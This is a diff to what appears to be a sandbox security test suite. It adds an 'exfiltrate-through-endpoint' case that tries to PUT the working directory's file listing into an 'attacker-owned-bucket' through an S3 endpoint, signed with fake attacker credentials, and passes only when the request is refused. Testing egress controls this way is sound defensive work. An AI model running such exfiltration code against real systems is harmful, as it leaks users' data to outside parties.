@@ -161,6 +161,28 @@ const attacks = {
     }
     report(true, 'wrote 100 MiB to stdout; the runner keeps a tail and the log stream a bounded part');
   },
+  // Copy what it can read to a bucket of its own, signed with credentials of its own account, through the only way
+  // out there is: the S3 endpoint. Its own account would allow the PUT; the endpoint's policy must refuse it.
+  'exfiltrate-through-endpoint': async () => {
+    const ports = JSON.parse(hostPorts);
+    const date = new Date().toISOString().replace(/[-:]|\.\d{3}/g, '');
+    const answer = await fetch(`http://127.0.0.1:${ports['S3 front']}/attacker-owned-bucket/loot.txt`, {
+      method: 'PUT',
+      body: readdirSync('.').join('\n'),
+      headers: {
+        'x-amz-date': date,
+        'x-amz-content-sha256': 'UNSIGNED-PAYLOAD',
+        authorization:
+          `AWS4-HMAC-SHA256 Credential=AKIAATTACKEROWNKEY01/${date.slice(0, 8)}/eu-west-1/s3/aws4_request, ` +
+          'SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=' +
+          '0'.repeat(64),
+      },
+    }).then(
+      async (response) => `${response.status} ${(/<Code>([^<]*)</.exec(await response.text()) ?? [])[1] ?? ''}`,
+      (error) => errorCode(error.cause ?? error),
+    );
+    report(!answer.startsWith('200'), `PUT to its own bucket through the S3 endpoint: ${answer}`);
+  },
   // Make the result a link to a file deliver must never upload.
   'output-link': () => {
     rmSync(resultFile, { force: true });
